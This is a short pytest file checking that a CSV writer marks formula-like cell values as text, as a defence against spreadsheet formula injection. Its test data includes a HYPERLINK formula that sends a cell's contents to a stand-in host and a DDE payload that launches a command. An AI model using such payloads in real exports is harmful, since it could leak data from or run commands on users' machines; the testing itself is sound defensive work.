"""Tables as spreadsheets open them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from core.services.tables import write_rows


def written(tmp_path: Path, value: object) -> str:
    path = tmp_path / "t.csv"
    write_rows(path, [{"detail": value}])
    with path.open(newline="") as file:
        return list(csv.reader(file))[1][0]


@pytest.mark.parametrize(
    "words", ['=HYPERLINK("http://evil.example?"&A1)', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1", " =1"]
)
def test_words_that_a_spreadsheet_would_work_out_are_marked_as_text(tmp_path: Path, words: str) -> None:
    assert written(tmp_path, words) == f"'{words}"


@pytest.mark.parametrize("value", [-1.5, "-1.5", "+2", "-1e-05", "/close LINK", "LINK/USDT", "1-2", "…=1", ""])
def test_numbers_and_other_words_stay_as_they_are(tmp_path: Path, value: object) -> None:
    assert written(tmp_path, value) == f"{value}"
